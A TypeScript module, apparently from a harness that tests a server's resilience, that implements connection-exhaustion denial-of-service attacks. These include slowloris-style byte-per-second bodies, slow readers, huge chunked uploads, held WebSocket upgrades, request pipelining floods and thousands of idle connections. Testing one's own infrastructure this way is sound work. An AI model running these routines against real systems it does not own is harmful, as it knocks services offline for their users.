import { readFileSync } from "node:fs";
import type { Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { head } from "./inputs";
import { hold, saidOfHeld } from "./pressing";
import type { Attack } from "./way";

/** Attacks that lie in what is done with connections, or not done with them. */

/** Upgrades of a connection, to addresses that nothing serves. */
const upgrade = (path: string, host: string) =>
  head(
    `GET ${path} HTTP/1.1`,
    host,
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
  );
/** Each with a number behind it, so that HAProxy, which chooses an instance by the address, sends them to both. */
const UPGRADED = ["/_next/hmr", "/nothing", "/r/x"];
export const upgrades = (name: string, count: number): Attack => ({
  name,
  what: `${count.toLocaleString("en-GB")} connections held with an upgrade to WebSocket`,
  run: async ({ door }, { seconds }) =>
    saidOfHeld(
      await hold(door, {
        count,
        seconds,
        use: (socket, index) => socket.write(upgrade(`${UPGRADED[index % UPGRADED.length]}${index}`, door.host)),
      }),
    ),
});

const BODY = 10_000_000;
const CHUNK = Buffer.from(`${(64_000).toString(16)}\r\n${" ".repeat(64_000)}\r\n`);
/** Bodies without a length over 120 connections. Where they have an end, each is sent again a second after it was answered. */
export const bodies = (name: string, what: string, hasEnd: boolean, paths: (cached: string) => string[]): Attack => ({
  name,
  what: `${what}, 120 connections`,
  run: async ({ door }, { cached, seconds }) => {
    const to = paths(cached);
    const use = (socket: Socket, index: number) => {
      const path = to[index % to.length];
      let left = BODY;
      const more = () => {
        while (left > 0 && !socket.destroyed) {
          left -= CHUNK.length;
          if (!socket.write(CHUNK) && left > 0) return;
        }
        if (hasEnd) socket.off("drain", more).write("0\r\n\r\n");
      };
      socket.on("drain", more);
      socket.write(head(`POST ${path} HTTP/1.1`, door.host, "Content-Type: application/json", "Transfer-Encoding: chunked"));
      more();
    };
    return saidOfHeld(await hold(door, { count: 120, seconds, use, endsAnswered: hasEnd }));
  },
});

/** How long connections of those who read nothing are looked at, where there is time for it, s. */
const SLOW_FOR = 120;

/** Many requests for large answers, of which nothing is read. */
export const slowReaders = (name: string, count: number): Attack => ({
  name,
  what: `100 results each over ${count} connections that read nothing`,
  run: async ({ door }, { cached, seconds }) => {
    const request = head(`GET ${cached} HTTP/1.1`, door.host).repeat(100);
    const lasts = seconds < 30 ? seconds : Math.max(seconds, SLOW_FOR);
    const use = (socket: Socket) => {
      socket.write(request);
      socket.pause();
    };
    // Whoever reads nothing hears of no end either, so the system is asked.
    const open = pause(lasts * 1000 - 500).then(() => connectionsOfAttacker(door.port));
    await hold(door, { count, seconds: lasts, use });
    return `${await open} open after ${lasts} s`;
  },
});

/** Established connections from the attacker to a port, as Linux lists them. */
function connectionsOfAttacker(port: number): number {
  const local = port.toString(16).toUpperCase().padStart(4, "0");
  return readFileSync("/proc/net/tcp", "latin1").split(new RegExp(`:${local} 0200007F:[0-9A-F]{4} 01 `)).length - 1;
}

/** Bodies of which a letter comes each second. @param path a number goes behind it */
export const bodiesByLetters = (name: string, what: string, path: string): Attack => ({
  name,
  what: `${what} letter by letter, 520 connections`,
  run: async ({ door }, { seconds }) => {
    const use = (socket: Socket, index: number) => {
      socket.write(head(`POST ${path}${index} HTTP/1.1`, door.host, "Content-Type: application/json", "Content-Length: 60000"));
      const timer = setInterval(() => socket.write(" "), 1_000);
      socket.once("close", () => clearInterval(timer));
    };
    return saidOfHeld(await hold(door, { count: 520, seconds, use }));
  },
});

/** Requests without a pause over few connections, none of which waits for an answer. */
export const pipelined: Attack["run"] = async ({ door }, { seconds }) => {
  const use = (socket: Socket) => {
    let asked = 0;
    const more = () => {
      while (asked < 100_000 && !socket.destroyed) {
        asked += 1;
        if (!socket.write(head(`GET /nothing-${asked} HTTP/1.1`, door.host))) return;
      }
    };
    socket.on("drain", more);
    more();
  };
  return saidOfHeld(await hold(door, { count: 10, seconds, use }));
};

/** Connections that ask nothing. */
export const idle: Attack["run"] = async ({ door }, { seconds }) =>
  saidOfHeld(await hold(door, { count: 4_000, seconds, use: () => undefined }));
